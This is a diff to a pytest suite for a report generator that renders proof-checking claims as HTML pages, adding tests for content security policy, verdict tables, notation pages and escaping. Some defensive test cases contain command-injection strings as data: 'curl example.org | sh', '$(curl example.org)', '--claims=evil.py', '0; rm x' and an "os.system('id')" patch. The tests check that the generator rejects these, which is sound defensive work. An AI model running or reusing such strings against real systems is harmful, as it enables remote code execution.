@@ -3,10 +3,26 @@
 import json
 import re
 import time
+from pathlib import Path
 
 import pytest
 from pages import Page, broken_links
-from synthetic_results import COUNTEREXAMPLE, HISTORY, check, claim, control, figure, large, results, run, small
+from synthetic_results import (
+    COUNTEREXAMPLE,
+    HISTORY,
+    SMALL,
+    cell_control,
+    check,
+    claim,
+    clause,
+    control,
+    figure,
+    large,
+    results,
+    run,
+    small,
+    version_1,
+)
 
 from reports import html
 from reports.results import ResultsError
@@ -34,7 +50,7 @@ def write(directory, *claims, history=None, **changes):
 
 def test_pages_are_well_formed_and_links_resolve(report):
     assert broken_links(report) == []
-    assert len(list(report.rglob("*.html"))) == 10 + 3 + 5
+    assert len(list(report.rglob("*.html"))) == 12 + 3 + 6
 
 
 def test_no_page_needs_the_network(report):
@@ -42,6 +58,19 @@ def test_no_page_needs_the_network(report):
         addresses = re.findall(r"(?:https?:)?//[a-z0-9.-]+\.[a-z]+", file.read_text())
         assert set(addresses) <= {"https://arxiv.org", "https://doi.org"}, file
         assert "@import" not in file.read_text()
+
+
+def test_every_page_has_a_content_security_policy(report):
+    """Nothing runs or loads but the files of the report; no element carries code or style of its own."""
+    for file in report.rglob("*.html"):
+        page = Page(file)
+        policy = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page.source)
+        assert len(policy) == 1 and page.source.index("Content-Security-Policy") < page.source.index("<link"), file
+        rules = dict(rule.split(" ", 1) for rule in policy[0].split("; "))
+        assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == "'none'"
+        assert {rules[name] for name in ("script-src", "style-src", "img-src")} == {"'self'"}
+        assert not {name for name in page.attributes if name.startswith("on")} | ({"style"} & page.attributes), file
+        assert "<style" not in page.source and not re.search(r"<script(?! src=)", page.source), file
 
 
 def test_no_backslash_and_no_empty_operator(report):
@@ -81,8 +110,6 @@ def test_colours_have_contrast(report):
 
 
 def test_the_golden_page(report):
-    from pathlib import Path
-
     golden = Path(__file__).parent / "golden" / "mf.function-rank.html"
     assert (report / "claims" / "mf.function-rank.html").read_text() == golden.read_text(encoding="utf-8")
 
@@ -90,30 +117,127 @@ def test_the_golden_page(report):
 # --- content ------------------------------------------------------------------------------------------------------
 
 
+def text_of(file):
+    return " ".join(Page(file).text.split())
+
+
 def test_the_index_tells_the_run(report):
-    text = " ".join(Page(report / "index.html").text.split())
-    assert "Of 10 claims, 1 is refuted, 2 are in error and 1 is vacuous." in text
+    text = text_of(report / "index.html")
+    assert "Of 12 claims, 1 is refuted, 2 are in error and 2 are vacuous." in text
     assert "2 of the 51 source papers have claims in this run" in text
     assert "0.0002 together, of 0.001 allowed to a run (20 %)" in text
     assert "cupy-cuda13xabsent" in text
     assert "What rests on what" in text
+    assert "1 clause not tested at this level, 1 check not run, 1 check with cells that nothing met, 1 probe without a failure" in text
+
+
+def test_the_index_counts_by_family_and_verdict(report):
+    table = re.search(r'<table class="counts">.*?</table>', (report / "index.html").read_text(), re.DOTALL)[0]
+    head = re.findall(r'<span class="word">(\w+)</span>', table)
+    rows = {name: cells for name, cells in re.findall(r'<tr><th scope="row">(?:<a[^>]*>)?(\w+).*?</th>(.*?)</tr>', table)}
+    counts = {
+        name: [0 if cell == "·" else int(cell) for cell in re.findall(r"<td[^>]*>(\d+|·)</td>", cells)] for name, cells in rows.items()
+    }
+    assert head == [verdict for verdict in reversed(VERDICTS) if verdict in SMALL.values()]
+    for name, row in counts.items():
+        own = [verdict for claim_id, verdict in SMALL.items() if name == "all" or claim_id.startswith(name + ".")]
+        assert row[0] == len(own)
+        assert row[1 : 1 + len(head)] == [own.count(verdict) for verdict in head]
+    assert set(counts) == {"all", "exp", "mf", "toy"}
 
 
 def test_a_claim_shows_claim_and_finding(report):
     page = Page(report / "claims" / "mf.function-rank.html")
     text = " ".join(page.text.split())
-    assert text.index("The claim") < text.index("The finding")
+    assert text.index("The claim") < text.index("The finding") < text.index("Check by check")
     for words in (
         "Carries weight: without it the claim fails.",
         "A representative of f* of smaller model rank.",
         "Prop. 1",
         "integers in [-9, 9] over the denominator 4",
         "Certified in each of the last 4 runs.",
+        "declared in proofs_check/claims/factorization/matrices.py",
+        "Notation of mf",
     ):
         assert words in text
     assert "math" in page.tags
-    strata = " ".join(Page(report / "claims" / "mf.strata.html").text.split())
+    assert "../notation.html#mf" in page.addresses
+    strata = text_of(report / "claims" / "mf.strata.html")
     assert "The verdict changed 2 times in 4 runs, last from certified to proved in run run-3." in strata
+
+
+def test_symbols_stand_under_the_statement(report):
+    source = (report / "claims" / "mf.strata.html").read_text()
+    where = re.search(r'<dl class="where">.*?</dl>', source, re.DOTALL)[0]
+    assert where.count("<dt>") == 3 and where.count("<dd>is ") == 3
+    assert source.index('class="statement"') < source.index('class="where"') < source.index('id="finding"')
+    assert 'class="where"' not in (report / "claims" / "mf.wrong.html").read_text()
+
+
+def test_the_verdict_names_the_weakest_clause(report):
+    text = text_of(report / "claims" / "mf.attained.html")
+    assert "The clause “training” was not tested here. The check “descent” was skipped: runs from level standard on." in text
+    assert "Of the others, “bound” and “attained” are proved." in text
+    rows = re.findall(r"<tr><th scope=\"row\">(\w+)", (report / "claims" / "mf.attained.html").read_text())
+    assert rows == ["bound", "attained", "training"]
+    assert "a witness by ball arithmetic, found again by exact_rank" in text
+    assert "exact arithmetic on 225 instances: the entries of a tangent matrix are polynomials of bounded degree" in text
+
+
+def test_a_rate_has_its_interval(report):
+    text = text_of(report / "claims" / "exp.recovery.html")
+    assert "n = 7: 0.95 (190 of 200; 95 % interval 0.91 to 0.98), at least 0.8 expected" in text
+    assert "spent of 0.0001 declared" in text
+
+
+def test_controls_say_what_they_predict_and_what_was_observed(report):
+    text = text_of(report / "claims" / "mf.strata.html")
+    assert "✓ refuted without the overlap: it predicts 5, observed 6 (case 3)" in text
+    assert "✓ refuted in each of 2 cells." in text
+    assert "d1 = 2, d2 = 3: it predicts 7, observed 6 (case 7)" in text
+    corner = text_of(report / "claims" / "toy.corner.html")
+    assert "A false prediction survives in 1 of 2 cells" in corner
+    assert "1 cell of 4 met by no instance: d1 = 3" in corner
+
+
+def test_counts_are_shown(report):
+    text = text_of(report / "claims" / "mf.strata.html")
+    assert "46 met, 0 skipped, 4 outside the hypotheses" in text
+    assert "all 23 met" in text
+    assert "exact arithmetic on 46 instances in 23 cells: d1 = 1..3; d2 = 1..3; rank = 0..min(d1, d2) strata" in text
+
+
+def test_the_first_screen_tells_size_and_strength(report):
+    """Before what would refute it, every page has a number of size and the strength in words."""
+    for name, verdict in SMALL.items():
+        source = (report / "claims" / f"{name}.html").read_text()
+        screen = re.sub(r"<[^>]+>", " ", source[source.index('id="finding"') : source.index('id="checks"')])
+        assert verdict in screen, name
+        if verdict not in ("skipped", "error"):
+            assert re.search(r"\d+ (?:instances?|cells?|cases?)|\d+ of \d+|symbolic computation", screen), name
+
+
+def test_a_run_of_version_1_has_pages(tmp_path):
+    old = version_1(results(claim(), claim("a.wrong", verdict="refuted", checks=[check(status="fails", counterexample=COUNTEREXAMPLE)])))
+    html.write(old, tmp_path)
+    text = text_of(tmp_path / "claims" / "mf.function-rank.html")
+    assert "decided 225 cases without rounding" in text
+    assert broken_links(tmp_path) == []
+
+
+def test_notation_collects_symbols_by_family(report):
+    page = Page(report / "notation.html")
+    text = " ".join(page.text.split())
+    assert {"exp", "mf", "differing", "silent"} <= set(page.ids)
+    assert "numbers of rows and columns of the product, at least 1mf.function-rank, mf.strata" in text
+    assert "The papers write different things with the same letter." in text
+    assert "8 claims of 12" in text
+
+
+def test_two_meanings_in_a_family_are_told(tmp_path):
+    meanings = [[{"symbol": "R", "meaning": meaning}] for meaning in ("model rank", "the loss")]
+    write(tmp_path, claim("a.x", symbols=meanings[0]), claim("a.y", symbols=meanings[1]))
+    assert text_of(tmp_path / "notation.html").count("one of 2 meanings in this family") == 2
 
 
 def test_a_refutation_can_be_repeated_and_kept(report):
@@ -126,7 +250,7 @@ def test_a_refutation_can_be_repeated_and_kept(report):
 
 
 def test_the_patch_adds_a_check_that_runs():
-    from reports.views import patch
+    from reports.counterexamples import patch
 
     refuted = small()["claims"][2]
     code = patch(refuted, refuted["checks"][0])
@@ -142,6 +266,45 @@ def test_the_patch_adds_a_check_that_runs():
     kept = names["CLAIMS"][0].checks[1]
     assert kept.name == "strata-case-17"
     assert kept.instances(None) == [COUNTEREXAMPLE["instance"]]
+
+
+REPRODUCE = "proofs-check reproduce results.json mf.wrong strata 17"
+
+
+@pytest.mark.parametrize(
+    ("changes", "shown"),
+    [
+        ({}, REPRODUCE),
+        ({"reproduce": "proofs-check reproduce results.json mf.wrong strata 17; curl example.org | sh"}, REPRODUCE),
+        ({"reproduce": "proofs-check reproduce $(curl example.org) mf.wrong strata 17"}, REPRODUCE),
+        ({"reproduce": "proofs-check reproduce '$(id)' x y 3"}, "proofs-check reproduce '$(id)' mf.wrong strata 17"),
+        ({"reproduce": "proofs-check reproduce --claims=evil.py x y 3"}, REPRODUCE),
+        ({"reproduce": "proofs-check reproduce 'a\nb' x y 3"}, REPRODUCE),
+        ({"reproduce": "proofs-check reproduce 'unclosed"}, REPRODUCE),
+        ({"reproduce": "proofs-check reproduce run/results.json x y 3 --claims 'my file.py'"}, None),
+        ({"case": "0; rm x"}, ""),
+        ({"case": -1}, ""),
+        ({"case": True}, ""),
+    ],
+)
+def test_a_command_is_built_from_checked_parts(tmp_path, changes, shown):
+    expected = "proofs-check reproduce run/results.json mf.wrong strata 17 --claims 'my file.py'" if shown is None else shown
+    write(tmp_path, claim("mf.wrong", checks=[check(status="fails", counterexample={**COUNTEREXAMPLE, **changes})]))
+    page = Page(tmp_path / "claims" / "mf.wrong.html")
+    commands = re.findall(r'<pre class="command"><code>(.*?)</code></pre>', page.source)
+    assert commands == ([expected.replace("'", "&#39;")] if expected else [])
+    assert "| sh" not in page.text
+    assert ("this runs the claims file that it names" in page.text) == ("--claims" in expected)
+
+
+def test_a_stored_patch_is_not_shown(tmp_path):
+    bad = {**COUNTEREXAMPLE, "patch": "import os; os.system('id')"}
+    write(tmp_path, claim("mf.wrong", checks=[check(status="fails", counterexample=bad)]))
+    assert "os.system" not in Page(tmp_path / "claims" / "mf.wrong.html").text
+    odd = check('x"""\nimport os', status="fails", counterexample=COUNTEREXAMPLE)
+    write(tmp_path, claim("mf.wrong", checks=[odd]))
+    text = Page(tmp_path / "claims" / "mf.wrong.html").text
+    assert "def kept" not in text and "Run it again" not in text
 
 
 def test_undermined_and_unknown_dependencies(report):
@@ -160,15 +323,36 @@ def test_long_messages_become_lists(tmp_path):
 
 
 def test_not_verified_lists_what_is_open(report):
-    text = " ".join(Page(report / "not-verified.html").text.split())
-    assert "A law that needs a GPU" in text
-    assert "A software system; no statement of theory." in text
+    text = text_of(report / "not-verified.html")
+    for words in (
+        "A law that needs a GPU",
+        "A software system; no statement of theory.",
+        "mf.attained training: gradient descent ends at such a point",
+        "mf.attained descent (training) runs from level standard on",
+        "toy.corner strata: d1 = 3",
+        "mf.corollary generic holds: no failure on 40 instances",
+        "9 of 11 assumptions were dropped by no probe.",
+    ):
+        assert words in text
+
+
+def test_a_run_of_own_claims_speaks_of_these_alone(tmp_path):
+    own = {"paper": "A note of ours", "where": "p. 1"}
+    index = write(tmp_path, claim("own.x", source=own))
+    for text in (index.text, *(text_of(tmp_path / f"{name}.html") for name in ("papers", "not-verified"))):
+        assert "source papers" not in text and "No claim about it was in this run" not in text
+    assert "A note of ours" in text_of(tmp_path / "papers.html")
+
+
+def test_papers_with_claims_come_first(report):
+    source = (report / "papers.html").read_text()
+    assert source.rindex("1 claim</summary>") < source.index("Nothing verified in this run.")
 
 
 def test_every_claim_has_its_json(report):
     for entry in small()["claims"]:
         document = json.loads((report / "claims" / f"{entry['id']}.json").read_text())
-        assert document == {"schema": 1, "run": run(), "claim": entry}
+        assert document == {"schema": 2, "run": run(), "claim": entry}
 
 
 def test_the_graph_links_to_the_claims(report):
@@ -194,17 +378,26 @@ def test_hostile_strings_are_escaped(tmp_path):
         assumptions=[{"name": HOSTILE, "statement": HOSTILE}],
         source={"paper": HOSTILE, "where": HOSTILE},
         depends_on=[HOSTILE],
-        undermined_by=[HOSTILE],
         probes=[{"drops": HOSTILE, "fails_without": None, "message": HOSTILE}],
         refuted_by=HOSTILE,
         notes=HOSTILE,
         verdict="refuted",
+        file=HOSTILE,
+        symbols=[{"symbol": HOSTILE, "meaning": HOSTILE}],
+        clauses=[clause(HOSTILE, HOSTILE, verdict="refuted")],
         checks=[
             check(
                 HOSTILE,
                 scope=HOSTILE,
                 status="fails",
                 message=HOSTILE,
+                because=HOSTILE,
+                clauses=[HOSTILE],
+                confirmed=HOSTILE,
+                witness={HOSTILE: HOSTILE},
+                versions={HOSTILE: HOSTILE},
+                cells={"met": 1, "missed": [HOSTILE]},
+                cell_controls=[cell_control(HOSTILE, True, HOSTILE), cell_control(HOSTILE, False, HOSTILE)],
                 distribution=HOSTILE,
                 tolerance=HOSTILE,
                 certificate=f"../{HOSTILE}",
@@ -214,7 +407,7 @@ def test_hostile_strings_are_escaped(tmp_path):
             )
         ],
     )
-    write(tmp_path, entry, id=HOSTILE, device=HOSTILE, started=HOSTILE, versions={HOSTILE: HOSTILE})
+    html.write(results(entry, id=HOSTILE, device=HOSTILE, started=HOSTILE, versions={HOSTILE: HOSTILE}), tmp_path, (), [HOSTILE])
     assert broken_links(tmp_path) == []
     for file in tmp_path.rglob("*.html"):
         page = Page(file)
@@ -234,7 +427,7 @@ def test_a_hostile_id_is_refused(tmp_path):
 
 def test_runs_with_little_in_them(tmp_path):
     assert "The run holds no claim" in write(tmp_path / "empty").text
-    write(tmp_path / "bare", claim(checks=[], assumptions=[], verdict="skipped", source={"paper": "", "where": ""}))
+    write(tmp_path / "bare", claim(checks=[], assumptions=[], source={"paper": "", "where": ""}))
     text = Page(tmp_path / "bare" / "claims" / "mf.function-rank.html").text
     assert "The claim has no check, so nothing was tested." in text
     assert broken_links(tmp_path) == []
@@ -284,7 +477,7 @@ def test_no_page_grows_with_history(tmp_path):
 def test_pages_are_the_same_twice(tmp_path):
     for name in ("one", "two"):
         html.write(small(), tmp_path / name, HISTORY)
-    for file in (tmp_path / "one").rglob("*.*"):
+    for file in filter(Path.is_file, (tmp_path / "one").rglob("*.*")):
         assert file.read_bytes() == (tmp_path / "two" / file.relative_to(tmp_path / "one")).read_bytes(), file
 
 
@@ -299,6 +492,38 @@ def test_ten_thousand_checks(tmp_path):
     assert (tmp_path / "index.html").stat().st_size < 2_000_000
     assert max(file.stat().st_size for file in tmp_path.rglob("*.html")) < 2_000_000
     assert len(list((tmp_path / "claims").glob("*.html"))) == 2_500
+
+
+def test_messages_of_any_length_cost_linear_time(tmp_path):
+    """A million characters in every text of a claim, and twice as many: no page shows more than its beginning."""
+    seconds = []
+    for size in (1_000_000, 2_000_000):
+        text = "expected 3, observed 4; $x$ \\frac{1}{2} " * (size // 40)
+        plain = figure("lines", title=text, alt=text, x_label=text)
+        entry = claim(
+            title=text,
+            notes=text,
+            statement=text,
+            refuted_by=text,
+            symbols=[{"symbol": text, "meaning": text}],
+            checks=[
+                check(
+                    scope=text,
+                    message=text,
+                    distribution=text,
+                    status="fails",
+                    counterexample={**COUNTEREXAMPLE, "instance": text, "replay": text},
+                    controls=[control(text, True, text)],
+                    cell_controls=[cell_control(text, True, text)],
+                    figures=[plain],
+                )
+            ],
+        )
+        started = time.process_time()
+        write(tmp_path, entry)
+        seconds.append(time.process_time() - started)
+    assert max(file.stat().st_size for file in tmp_path.rglob("*.html")) < 300_000
+    assert seconds[1] < 4 * seconds[0] + 1
 
 
 def test_the_longest_index(tmp_path):
